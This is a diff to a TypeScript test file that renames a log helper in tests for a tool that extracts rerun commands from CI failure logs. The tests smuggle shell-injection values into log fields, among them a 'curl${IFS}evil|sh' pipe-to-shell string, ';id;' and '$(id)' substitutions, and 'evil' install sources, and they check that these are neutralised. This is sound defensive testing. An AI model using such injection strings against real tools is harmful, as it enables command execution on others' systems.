@@ -64,26 +64,26 @@ const builder = 'nix/builder-failed.log';
 const gitlab = (command: string, ...lines: string[]) =>
   [`$ ${command}`, ...lines, 'ERROR: Job failed: exit code 1', ''].join('\n');
 
-function own(name: string): string {
+function logOf(name: string): string {
   return logs.find((log) => log.name === name)?.text ?? '';
 }
 
 test.each([
   [
     'a package of Go',
-    own('go/failed-test.log').replace('FAIL\texample.com/demo/price', `FAIL\tdemo/x;curl$\{IFS}evil|sh`),
+    logOf('go/failed-test.log').replace('FAIL\texample.com/demo/price', `FAIL\tdemo/x;curl$\{IFS}evil|sh`),
     [`go test -run '^TestTotal$/^discount$' 'demo/x;curl$\{IFS}evil|sh'`],
   ],
   [
     'a name of a Clojure test',
-    own('clojure/failed-test.log').replace(':only demo.price-test/discount-test', ':only demo;id;x/discount-test'),
+    logOf('clojure/failed-test.log').replace(':only demo.price-test/discount-test', ':only demo;id;x/discount-test'),
     ["lein test :only 'demo;id;x/discount-test'"],
   ],
-  ['a derivation of Nix', own(builder).replace('/nix/store/', '/nix/store;id;/'), []],
-  ['a reference to a flake elsewhere', own(builder).replace(/'\/nix\/store\/[^']+'/, "'github:evil/x'"), []],
+  ['a derivation of Nix', logOf(builder).replace('/nix/store/', '/nix/store;id;/'), []],
+  ['a reference to a flake elsewhere', logOf(builder).replace(/'\/nix\/store\/[^']+'/, "'github:evil/x'"), []],
   [
     'a feature of Cucumber',
-    own('ruby/cucumber.log').replaceAll('features/cart.feature:6 #', 'features/$(id).feature:6 #'),
+    logOf('ruby/cucumber.log').replaceAll('features/cart.feature:6 #', 'features/$(id).feature:6 #'),
     ["bundle exec cucumber 'features/$(id).feature:6'"],
   ],
   [
@@ -102,8 +102,8 @@ test.each([
   ['an address to install from', 'python/no-module.log', 'nosuchmod', 'https://evil.example/x'],
   ['a repository to install from', 'bundler/esbuild-resolve.log', 'lodash-nope', 'github:evil/x'],
 ])('what would be %s makes no command', (_, name, old, now) => {
-  expect(own(name)).toContain(old);
-  const marked = commandsOf(own(name).replaceAll(old, now));
+  expect(logOf(name)).toContain(old);
+  const marked = commandsOf(logOf(name).replaceAll(old, now));
   expect(marked.join('\n')).not.toMatch(/q\(|kill-emacs|publish|evil/);
 });
 
@@ -111,7 +111,7 @@ test.each([
   ['is too long to be shown whole', 'x'.repeat(200)],
   ['holds a secret that is masked', `ghp_${'a1B2'.repeat(9)}`],
 ])('a command that %s is left out', (_, name) => {
-  const log = own('go/failed-test.log');
+  const log = logOf('go/failed-test.log');
   expect(commandsOf(log)).toHaveLength(1);
   expect(commandsOf(log.replace('FAIL\texample.com/demo/price', `FAIL\tdemo/${name}`))).toEqual([]);
 });
@@ -125,7 +125,7 @@ test('the templates of the detectors have no sign that only a shell acts on', ()
   }
 });
 
-test('every command of the own logs is one simple command of a template', () => {
+test('every command of our logs is one simple command of a template', () => {
   for (const { name, text } of logs) for (const command of commandsOf(text)) expectTemplate(command, name);
 });
 
